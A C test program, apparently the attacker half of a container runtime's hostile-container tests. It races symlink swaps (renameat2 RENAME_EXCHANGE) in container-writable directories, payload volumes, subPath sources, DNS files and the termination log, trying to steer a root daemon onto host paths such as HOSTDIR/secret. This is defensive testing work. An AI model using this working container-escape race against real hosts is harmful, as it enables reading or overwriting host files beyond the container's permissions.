/* The hostile container's attacker (tests/hostile_*.rs): swaps entries of a directory
 * the container can write for symlinks to a host path, as fast as it can, so that a root
 * daemon that resolves a path in that directory between its own checks follows the link
 * onto the host. The link targets are host paths the container itself cannot see; only
 * a daemon on the host would reach them.
 *
 *   swapper tree DIR HOSTDIR N   emptyDir: N files and N/10 dirs in DIR/t, each
 *                                exchanged (renameat2 RENAME_EXCHANGE) with a link to
 *                                HOSTDIR/secret (files) or HOSTDIR (dirs), in a loop
 *   swapper payload DIR HOSTDIR  content volume: every `..<stamp>` payload dir exchanged
 *                                with a link to HOSTDIR as soon as it appears; payload
 *                                files appended to so that the daemon sees a change
 *   swapper subpath DIR HOSTDIR  subPath source: DIR/sub (a dir holding `ok`) exchanged
 *                                with a link to HOSTDIR, back and forth, in a loop
 *   swapper fill DIR HOSTDIR MIB NAME..  the pod's DNS files: each DIR/NAME filled with
 *                                MIB MiB, then replaced in a loop (a link to HOSTDIR/secret
 *                                or a fifo renamed over it, an unlink, a fifo made in its
 *                                place): all refused (EBUSY, EEXIST on a bind mount)
 *   swapper termlog PATH HOSTDIR N  the termination-message file: a message written,
 *                                then N tries to replace it with a link to
 *                                HOSTDIR/secret or a fifo; prints the tally, exits 1
 *
 * Every second it prints `swaps=S refused=R` (S: swaps that took effect, R: refused by
 * the kernel, e.g. EROFS on a read-only volume), so the test can say how many it raced.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

static unsigned long swaps, refused;
static time_t last_report;

static void report(void) {
    time_t now = time(NULL);
    if (now != last_report) {
        last_report = now;
        printf("swaps=%lu refused=%lu\n", swaps, refused);
        fflush(stdout);
    }
}

static void tally(int rc) {
    if (rc == 0)
        swaps++;
    else
        refused++;
}

static void make_file(const char *path) {
    int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0644);
    if (fd >= 0) {
        (void)write(fd, "x", 1);
        close(fd);
    }
}

/* Swaps `a` and `b` atomically (both names always exist: a daemon that lists the
 * directory never meets a vanished entry, only one whose type changed under it). */
static void exchange(const char *a, const char *b) {
    tally(renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE));
}

__attribute__((noreturn)) static void tree(const char *dir, const char *host, int n) {
    char root[1024], secret[1024], path[4096], link[4096];
    int dirs = n / 10 > 0 ? n / 10 : 1;
    snprintf(root, sizeof root, "%s/t", dir);
    snprintf(secret, sizeof secret, "%s/secret", host);
    mkdir(root, 0755);
    for (int i = 0; i < n; i++) {
        snprintf(path, sizeof path, "%s/f%d", root, i);
        make_file(path);
        snprintf(link, sizeof link, "%s/l%d", root, i);
        (void)symlink(secret, link);
    }
    for (int i = 0; i < dirs; i++) {
        snprintf(path, sizeof path, "%s/d%d", root, i);
        mkdir(path, 0755);
        snprintf(path, sizeof path, "%s/d%d/inner", root, i);
        make_file(path);
        snprintf(link, sizeof link, "%s/s%d", root, i);
        (void)symlink(host, link);
    }
    printf("ready files=%d dirs=%d\n", n, dirs);
    fflush(stdout);
    for (;;) {
        for (int i = 0; i < n; i++) {
            snprintf(path, sizeof path, "%s/f%d", root, i);
            snprintf(link, sizeof link, "%s/l%d", root, i);
            exchange(path, link);
            if (i % 10 == 0) {
                int d = (i / 10) % dirs;
                snprintf(path, sizeof path, "%s/d%d", root, d);
                snprintf(link, sizeof link, "%s/s%d", root, d);
                exchange(path, link);
            }
            report();
        }
    }
}

static int is_payload_name(const char *name) {
    return name[0] == '.' && name[1] == '.' && name[2] >= '0' && name[2] <= '9';
}

/* A link this program made (its name starts with `..evil`). */
static int is_evil_name(const char *name) {
    return strncmp(name, "..evil", 6) == 0;
}

__attribute__((noreturn)) static void payload(const char *dir, const char *host) {
    char path[2048], evil[2048], file[4096];
    unsigned long n = 0;
    printf("ready\n");
    fflush(stdout);
    for (;;) {
        DIR *d = opendir(dir);
        if (!d) {
            refused++;
            continue;
        }
        struct dirent *e;
        while ((e = readdir(d))) {
            if (!is_payload_name(e->d_name) || is_evil_name(e->d_name))
                continue;
            snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
            if (e->d_type == DT_DIR) {
                /* Make the daemon see a change, so it writes a new payload. */
                snprintf(file, sizeof file, "%s/k", path);
                int fd = open(file, O_WRONLY | O_APPEND);
                if (fd >= 0) {
                    (void)write(fd, "!", 1);
                    close(fd);
                }
            }
            /* The payload dir becomes a link to the host dir, atomically (the dir
             * itself moves to the link's fresh name). */
            snprintf(evil, sizeof evil, "%s/..evil%lu", dir, n++);
            if (symlink(host, evil) == 0)
                exchange(path, evil);
            else
                refused++;
        }
        closedir(d);
        report();
    }
}

__attribute__((noreturn)) static void subpath(const char *dir, const char *host) {
    char sub[1024], ok[1100], evil[1024];
    snprintf(sub, sizeof sub, "%s/sub", dir);
    snprintf(ok, sizeof ok, "%s/ok", sub);
    snprintf(evil, sizeof evil, "%s/..evil", dir);
    mkdir(sub, 0755);
    make_file(ok);
    unlink(evil);
    if (symlink(host, evil) != 0) {
        perror("symlink");
        exit(1);
    }
    printf("ready\n");
    fflush(stdout);
    for (;;) {
        exchange(sub, evil);
        report();
    }
}

/* Tallies an attempt to replace a bind-mounted file: refused is what must happen. */
static void attempt(int rc) {
    if (rc == 0)
        swaps++;
    else
        refused++;
}

/* The ways a container can try to put something else where a bind-mounted file is:
 * a link to `target` renamed over it, a fifo renamed over it, an unlink, a fifo made
 * in its place. */
static void replace_attempts(const char *path, const char *target, unsigned long n) {
    char tmp[4200];
    snprintf(tmp, sizeof tmp, "%s.evil%lu", path, n);
    if (symlink(target, tmp) == 0) {
        attempt(rename(tmp, path));
        unlink(tmp);
    }
    if (mkfifo(tmp, 0666) == 0) {
        attempt(rename(tmp, path));
        unlink(tmp);
    }
    attempt(unlink(path));
    attempt(mkfifo(path, 0666));
}

static void fill_file(const char *path, long mib) {
    static char chunk[1 << 20];
    memset(chunk, '#', sizeof chunk);
    int fd = open(path, O_WRONLY | O_TRUNC);
    if (fd < 0) {
        perror(path);
        return;
    }
    for (long i = 0; i < mib; i++)
        if (write(fd, chunk, sizeof chunk) != (ssize_t)sizeof chunk)
            break;
    close(fd);
}

__attribute__((noreturn)) static void fill(const char *dir, const char *host, long mib,
                                           char **names, int count) {
    char path[2048], secret[1024];
    unsigned long n = 0;
    snprintf(secret, sizeof secret, "%s/secret", host);
    for (int i = 0; i < count; i++) {
        snprintf(path, sizeof path, "%s/%s", dir, names[i]);
        fill_file(path, mib);
    }
    printf("ready filled=%d mib=%ld\n", count, mib);
    fflush(stdout);
    for (;;) {
        for (int i = 0; i < count; i++) {
            snprintf(path, sizeof path, "%s/%s", dir, names[i]);
            replace_attempts(path, secret, n++);
        }
        report();
        usleep(1000);
    }
}

__attribute__((noreturn)) static void termlog(const char *path, const char *host, long n) {
    char secret[1024];
    snprintf(secret, sizeof secret, "%s/secret", host);
    int fd = open(path, O_WRONLY | O_TRUNC);
    if (fd >= 0) {
        (void)write(fd, "attacked", 8);
        close(fd);
    }
    for (long i = 0; i < n; i++)
        replace_attempts(path, secret, (unsigned long)i);
    printf("swaps=%lu refused=%lu\n", swaps, refused);
    fflush(stdout);
    exit(1);
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 5 && strcmp(argv[1], "tree") == 0 && strlen(argv[2]) < 512 && strlen(argv[3]) < 512)
        tree(argv[2], argv[3], atoi(argv[4]));
    if (argc == 4 && strcmp(argv[1], "payload") == 0 && strlen(argv[2]) < 512 && strlen(argv[3]) < 512)
        payload(argv[2], argv[3]);
    if (argc == 4 && strcmp(argv[1], "subpath") == 0 && strlen(argv[2]) < 512 && strlen(argv[3]) < 512)
        subpath(argv[2], argv[3]);
    if (argc >= 6 && strcmp(argv[1], "fill") == 0 && strlen(argv[2]) < 512 && strlen(argv[3]) < 512)
        fill(argv[2], argv[3], atol(argv[4]), argv + 5, argc - 5);
    if (argc == 5 && strcmp(argv[1], "termlog") == 0 && strlen(argv[2]) < 1024 && strlen(argv[3]) < 512)
        termlog(argv[2], argv[3], atol(argv[4]));
    fprintf(stderr, "usage: swapper tree DIR HOSTDIR N | swapper payload DIR HOSTDIR | "
                    "swapper subpath DIR HOSTDIR | swapper fill DIR HOSTDIR MIB NAME... | "
                    "swapper termlog PATH HOSTDIR N\n");
    return 2;
}
